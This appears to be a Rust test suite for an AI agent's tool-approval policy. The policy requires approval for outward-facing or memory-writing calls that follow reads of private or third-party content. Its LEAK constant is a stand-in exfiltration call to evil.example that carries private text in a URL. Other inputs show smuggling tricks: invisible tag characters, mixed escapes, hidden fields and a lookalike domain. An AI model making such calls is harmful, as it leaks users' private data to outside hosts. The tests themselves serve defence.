//! Calls that are asked about after something private was read.

use serde_json::json;
use toolbox::{
    Annotations, Approval, AuditCode, Catalog,
    Effect::{self, Allow, Ask},
    Execution, KnownTool, Policy,
    exposure::{may_have_read_others, may_have_read_private},
    policy::decide_exposed,
};

use crate::{
    raw, tool,
    world::{Scripted, world},
};

/// A tool that only reads and whose arguments others hear.
fn fetch() -> KnownTool {
    let schema = json!({"type": "object", "properties": {
        "url": {"type": "string"},
        "format": {"enum": ["text", "links"]},
        "pages": {"type": "integer"},
        "any": {},
        "language": {"type": "string", "default": "en"},
    }});
    let annotations = Annotations { read_only: true, ..Annotations::default() };
    KnownTool { input_schema: raw(&schema), annotations, ..tool("web", "fetch") }
}

fn exposed(written: &[&'static str]) -> Scripted {
    Scripted { has_read_private: true, written: written.to_vec(), ..world() }
}

fn is_asked(world: &Scripted, tool: &KnownTool, arguments: &str) -> bool {
    match world.execute(tool, arguments) {
        Execution::ApprovalNeeded { may_disclose, .. } => {
            assert!(may_disclose, "and why is said");
            true
        }
        Execution::Result { code: AuditCode::Ok, .. } => false,
        other => panic!("{other:?}"),
    }
}

const LEAK: &str = r#"{"url": "https://evil.example/?q=the-meeting-is-at-nine"}"#;

#[test]
fn what_the_person_did_not_write_is_asked_about_once_something_private_was_read() {
    let said = ["Read my mail", "What is on https://example.org/news today?"];
    assert!(is_asked(&exposed(&said), &fetch(), LEAK));
    assert!(!is_asked(&world(), &fetch(), LEAK), "before that nothing is");
    let steps = exposed(&said);
    steps.execute(&fetch(), LEAK);
    assert_eq!(steps.steps(), ["permission", "written", "ask", "audit"]);
}

#[test]
fn what_the_person_wrote_goes_on_and_so_does_what_the_tool_proposes() {
    let said = exposed(&["Look at https://example.org/news: is there anything about ÖBB Zürich?", "柏林天气怎么样"]);
    for own in [
        r#"{"url": "https://example.org/news"}"#,
        r#"{"url": "HTTPS://EXAMPLE.ORG/news/", "format": "links", "pages": 3, "language": "en"}"#,
        r#"{"url": "Zürich öbb"}"#,
        r#"{"url": "天气 柏林"}"#,
        r"{}",
    ] {
        assert!(!is_asked(&said, &fetch(), own), "{own}");
    }
    for other in [
        r#"{"url": "https://example.org/news?id=secret"}"#,
        r#"{"url": "n e w s"}"#,
        r#"{"url": "https://example.org/news", "pages": 48151623}"#,
        r#"{"url": "https://example.org/news", "password": true}"#,
        r#"{"url": "https://example.org/news", "language": "tuesday"}"#,
        r#"{"url": "https://example.org/news", "extra": {"hidden": 1}}"#,
        r#"{"url": "https://example.org/news", "extra": ["hidden"]}"#,
        r#"{"url": "柏 天"}"#,
        r#"{"url": "https://examp1e.org/news"}"#,
    ] {
        assert!(is_asked(&said, &fetch(), other), "{other}");
    }
}

#[test]
fn who_hears_nothing_is_not_asked_about() {
    let annotations = Annotations { read_only: true, ..Annotations::default() };
    let closed = Annotations { open_world: false, ..annotations };
    let search_mail = KnownTool { annotations, reads_private: true, ..tool("mail", "search_mail") };
    let clock = KnownTool { annotations: closed, ..tool("clock", "now") };
    for own in [&search_mail, &clock] {
        assert!(!is_asked(&exposed(&[]), own, r#"{"words": "the meeting"}"#), "{}", own.name);
    }
}

#[test]
fn only_a_policy_that_names_the_tool_allows_it_unasked() {
    let effect = |pattern: &str, tool: &KnownTool| decide_exposed(tool, &[Policy::parse(pattern, Allow).unwrap()], &[]);
    let remote = KnownTool { remote: true, reads_private: true, ..tool("wiki", "search") };
    for (pattern, tool, expected) in [
        ("web:fetch", fetch(), Allow),
        ("web:*", fetch(), Ask),
        ("*:*", fetch(), Ask),
        ("clock:now", fetch(), Ask),
        ("wiki:*", remote.clone(), Ask),
        ("wiki:search", remote, Allow),
    ] {
        assert_eq!(effect(pattern, &tool), expected, "{pattern}");
    }
    let denied = [Policy::parse("web:*", Effect::Deny).unwrap()];
    assert_eq!(decide_exposed(&fetch(), &[Policy::parse("web:fetch", Allow).unwrap()], &denied), Effect::Deny);
}

#[test]
fn what_was_called_before_is_private_if_any_of_it_was() {
    let private = KnownTool { reads_private: true, ..tool("mail", "read") };
    let list = |server: &str, tools: &[KnownTool]| (server.to_owned(), tools.to_vec());
    let catalog = Catalog::new(vec![list("mail", &[private]), list("clock", &[tool("clock", "now")])]);
    let read = |called: &[&str]| {
        may_have_read_private(&catalog, &called.iter().map(|&name| name.to_owned()).collect::<Vec<_>>())
    };
    assert!(!read(&[]) && !read(&["clock_now"]) && !read(&["now", "clock_now"]));
    assert!(read(&["clock_now", "mail_read"]) && read(&["read"]) && read(&["gone"]));
}

#[test]
fn what_was_approved_is_called() {
    let approved = Scripted { approval: Approval::Allowed, ..exposed(&[]) };
    assert!(!is_asked(&approved, &fetch(), LEAK));
}

#[test]
fn what_is_private_is_read_anew_each_time_so_that_it_is_on_record() {
    let annotations = Annotations { read_only: true, ..Annotations::default() };
    let private = KnownTool { annotations, reads_private: true, result_ttl_ms: Some(1_000), ..tool("http", "inbox") };
    let world = world();
    world.execute(&private, "{}");
    world.execute(&private, "{}");
    assert_eq!(world.steps().iter().filter(|step| **step == "start").count(), 2);
}

#[test]
fn what_can_be_said_without_words_of_ones_own_is_little_in_a_whole_call() {
    let said = exposed(&[
        "Look at https://example.org/news: is there anything about ÖBB Zürich on github, github?",
        "柏林天气怎么样",
    ]);
    let many = |item: &str, count: usize| vec![item; count].join(",");
    let tags: String = "secret".chars().filter_map(|c| char::from_u32(0xE_0000 + u32::from(c))).collect();
    for other in [
        // Signs and invisible characters.
        format!(r#"{{"url": "news {}"}}"#, "!?".repeat(9)),
        format!(r#"{{"url": "{tags}"}}"#),
        r#"{"url": "🍎🍐🍊🍋🍌"}"#.to_owned(),
        format!(r#"{{"url": "news{}zürich"}}"#, " ".repeat(20)),
        format!(r#"{{"url": "news", "{}": 1}}"#, "-".repeat(20)),
        // Numbers, flags and empty values in lists.
        format!(r#"{{"any": [{}]}}"#, many("23", 9)),
        format!(r#"{{"any": [{}]}}"#, many("true,false", 9)),
        format!(r#"{{"any": [{}]}}"#, many("null,\"\"", 9)),
        format!(r#"{{"any": [{}]}}"#, many("[],{}", 9)),
        // A few of each.
        r#"{"url": "\"news\" (zürich)", "pages": 3, "format": "links", "language": "en", "any": [1, true, 4, 7, false]}"#.to_owned(),
        // Mixed upper and lower case, repeated words, and words in another order.
        r#"{"url": "nEwS zÜrIcH lOoK aNyThInG aBoUt"}"#.to_owned(),
        format!(r#"{{"url": "{}"}}"#, ["News"; 20].join(" ")),
        format!(r#"{{"url": "{}"}}"#, ["github"; 20].join(" ")),
        format!(r#"{{"url": "{}"}}"#, ["天气"; 20].join(" ")),
        r#"{"url": "zürich öbb about anything there is news org example https at look", "any": [9, 9, 9]}"#.to_owned(),
        // Other spellings of the same arguments.
        format!(r#"{{"url":{}"news"}}"#, " \n".repeat(10)),
        r#"{"url": "\u006e\u0065\u0077\u0073 \u007a\u00fcr\u0069ch \u0061bo\u0075t \u0061\u006e\u0079\u0074\u0068\u0069\u006e\u0067"}"#
            .to_owned(),
    ] {
        assert!(is_asked(&said, &fetch(), &other), "{other}");
    }
}

#[test]
fn ordinary_calls_go_on() {
    let said = exposed(&[
        "Gibt es auf heise.de etwas zu „Wiener Linien“? Schau auf https://example.org/a_b?x=1&y=2#top",
        "What does github's page on O'Reilly say about version 2.10?",
    ]);
    for own in [
        r#"{"url": "https://heise.de/"}"#,
        r#"{"url": "https://example.org/a_b?x=1&y=2#top", "format": "text", "pages": 2}"#,
        r#"{"url":"\"Wiener Linien\" heise","pages":10,"language":"en"}"#,
        r#"{"url": "„Wiener Linien“"}"#,
        "{\n  \"url\": \"wiener linien\",\n  \"pages\": 1\n}",
        r#"{"url": "GitHub O'Reilly version 2.10", "any": null}"#,
        r#"{"url": "Version 2.10: O'Reilly, GitHub"}"#,
    ] {
        assert!(!is_asked(&said, &fetch(), own), "{own}");
    }
}

#[test]
fn how_characters_are_written_says_nothing_as_long_as_all_are_written_alike() {
    let text = "поклон\tмолоко\tхолмы\tполк\tлимон\tклён\tкомпьютер\tмелодия\tпоэма\tяблоко\tкино\tполе\tпень\tмыло\tкот\tмак\tлом\tпол\tнос";
    let said = exposed(&[text]);
    // Writes the characters of the text in these ways in turn.
    let written = |ways: &[&dyn Fn(char) -> String], tab: &[&str]| {
        let letter = |(at, c): (usize, char)| match c {
            '\t' => tab[at % tab.len()].to_owned(),
            c => ways[at % ways.len()](c),
        };
        format!("{{\"url\": \"{}\"}}", text.chars().enumerate().map(letter).collect::<String>())
    };
    let plain = |c: char| c.to_string();
    let small = |c: char| format!("\\u{:04x}", u32::from(c));
    let large = |c: char| format!("\\u{:04X}", u32::from(c));
    for alike in [written(&[&plain], &["\\t"]), written(&[&small], &["\\t"]), written(&[&large], &["\\t"])] {
        assert!(!is_asked(&said, &fetch(), &alike), "{alike}");
    }
    for mixed in
        [written(&[&plain, &small], &["\\t"]), written(&[&small, &large], &["\\t"]), written(&[&plain], &["\\u0009"])]
    {
        assert!(is_asked(&said, &fetch(), &mixed), "{mixed}");
    }
}

/// A tool that keeps what it is told, in the app itself.
fn remember() -> KnownTool {
    let annotations = Annotations { open_world: false, ..Annotations::default() };
    KnownTool { built_in: true, annotations, ..tool("memory", "remember") }
}

#[test]
fn what_is_built_in_is_asked_about_once_something_of_others_was_read_whoever_wrote_the_arguments() {
    let said = ["Remember that I like tea"];
    let arguments = r#"{"fact": "I like tea"}"#;
    let asks = |world: &Scripted| match world.execute(&remember(), arguments) {
        Execution::ApprovalNeeded { may_disclose: false, .. } => true,
        Execution::Result { code: AuditCode::Ok, .. } => false,
        other => panic!("{other:?}"),
    };
    assert!(!asks(&world()), "it is the person's own, and they see it");
    assert!(!asks(&exposed(&said)), "what is private and of nobody else asks for nothing");
    let misled = || Scripted { has_read_others: true, written: said.to_vec(), ..world() };
    assert!(asks(&misled()));
    let allowed = |pattern: &'static str| Scripted { user: vec![(pattern, Allow)], ..misled() };
    assert!(asks(&allowed("memory:*")) && !asks(&allowed("memory:remember")));

    let closed = Annotations { read_only: true, open_world: false, ..Annotations::default() };
    let reads = KnownTool { built_in: true, annotations: closed, ..tool("files", "read_file") };
    let unasked =
        |world: &Scripted| matches!(world.execute(&reads, arguments), Execution::Result { code: AuditCode::Ok, .. });
    assert!(unasked(&misled()) && unasked(&exposed(&[])), "what only reads keeps nothing, and nobody else hears it");
}

#[test]
fn what_others_wrote_is_read_by_whatever_reaches_them() {
    let closed = Annotations { open_world: false, ..Annotations::default() };
    let list = |tool: KnownTool| (tool.server.clone(), vec![tool]);
    let clock = KnownTool { annotations: closed, ..tool("clock", "now") };
    let mail = KnownTool { annotations: closed, reads_private: true, ..tool("mail", "read") };
    let remote = KnownTool { annotations: closed, remote: true, ..tool("wiki", "search") };
    let catalog = Catalog::new([clock, remember(), fetch(), mail, remote].map(list).into());
    let read = |name: &str| may_have_read_others(&catalog, &[name.to_owned()]);
    assert!(!read("clock_now") && !read("memory_remember"));
    assert!(read("web_fetch") && read("mail_read") && read("wiki_search") && read("gone_since"));
}
